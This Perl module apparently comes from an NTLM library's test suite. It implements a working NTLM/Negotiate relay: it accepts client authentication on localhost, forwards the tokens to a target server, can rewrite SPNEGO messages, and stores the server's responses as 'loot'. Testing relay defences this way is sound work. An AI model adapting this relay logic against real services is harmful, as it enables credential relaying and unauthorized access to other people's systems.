package Relay;

# Somebody in the middle: clients believe that they log in to him, and he logs in to the
# server with what they send. What he gets there he keeps to himself.
#
#   my $relay = Relay->new(to => $httpd, place => '/require/', certificate => "$dir/his");
#   $client->login(...)          # against $relay->{port}
#   $relay->loot                 # the pages that the server gave him
#
# certificate  of his own, with which he speaks TLS to clients: NAME.pem and NAME.key
# tls          he speaks TLS to the server
# rewrite      sub that gets each message of a client and gives another one

use strict;
use warnings;
use File::Temp qw(tempdir);
use IO::Socket::INET;
use MIME::Base64 qw(decode_base64 encode_base64);
use POSIX qw(WNOHANG);
use Time::HiRes qw(sleep time);

use NTLM::Connection;
use NTLM::SPNEGO;

my %running;    # pids of those that were started

sub new {
    my ($class, %opt) = @_;
    my $self = bless {%opt, dir => tempdir('ntlm-relay-XXXXXX', TMPDIR => 1, CLEANUP => 1)}, $class;
    my $listener = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 0, Listen => 20) or die "listen: $!\n";
    $self->{port} = $listener->sockport;
    my $pid = fork // die "fork: $!\n";
    if (!$pid) {
        $SIG{TERM} = sub { POSIX::_exit(0) };
        eval { $self->_serve($listener); 1 } or print STDERR "relay: $@";
        POSIX::_exit(1);
    }
    $running{$self->{pid} = $pid} = 1;
    return $self;
}

sub url { my ($self) = @_; return ($self->{certificate} ? 'https' : 'http') . "://127.0.0.1:$self->{port}/" }

sub _serve {
    my ($self, $listener) = @_;
    while (my $client = $listener->accept) {
        eval { $self->_relay($self->_as_server($client)) };
    }
    return;
}

sub _as_server {
    my ($self, $client) = @_;
    return $client if !$self->{certificate};
    return IO::Socket::SSL->start_SSL(
        $client,
        SSL_server    => 1,
        SSL_cert_file => "$self->{certificate}.pem",
        SSL_key_file  => "$self->{certificate}.key",
    ) || die "no TLS with the client\n";
}

# One connection of a client, and one to the server: the challenges of the one are those of
# the other.
sub _relay {
    my ($self, $client) = @_;
    my $class  = $self->{tls} ? 'NTLM::TLS' : 'NTLM::Connection';
    my $server = $class->new(port => $self->{to}{port}, vhost => '127.0.0.1');
    my $head   = '';
    while (defined(my $line = <$client>)) {
        $head .= $line;
        next if $line ne "\r\n";
        my ($word, $token) = $head =~ /^Authorization: (NTLM|Negotiate) (\S+)\r$/mi;
        my $answer = $server->request(GET => $self->{place}, defined $token ? [Authorization => "$word " . $self->_changed($token)] : []);
        $self->_keep($answer->body) if $answer->status == 200;
        print {$client} join("\r\n", 'HTTP/1.1 ' . $answer->status . ' Relayed', 'Content-Length: 0',
            map({ "WWW-Authenticate: $_" } $answer->header('WWW-Authenticate')), '', '');
        $client->flush;
        $head = '';
    }
    return;
}

sub _changed {
    my ($self, $token) = @_;
    return $token if !$self->{rewrite};
    return encode_base64(NTLM::SPNEGO::within(decode_base64($token), $self->{rewrite}), '');
}

sub _keep {
    my ($self, $page) = @_;
    open my $out, '>>', "$self->{dir}/loot" or die "loot: $!\n";
    print {$out} $page;
    close $out;
    return;
}

sub loot {
    my ($self) = @_;
    open my $in, '<', "$self->{dir}/loot" or return '';
    local $/;
    return <$in> // '';
}

sub stop {
    my ($self) = @_;
    return _stop($self->{pid});
}

sub _stop {
    my ($pid) = @_;
    return if !delete $running{$pid};
    kill TERM => $pid;
    my $deadline = time + 10;
    while (waitpid($pid, WNOHANG) == 0) {
        kill KILL => $pid if time > $deadline;
        sleep 0.02;
    }
    return;
}

END { local $?; _stop($_) for keys %running }

1;
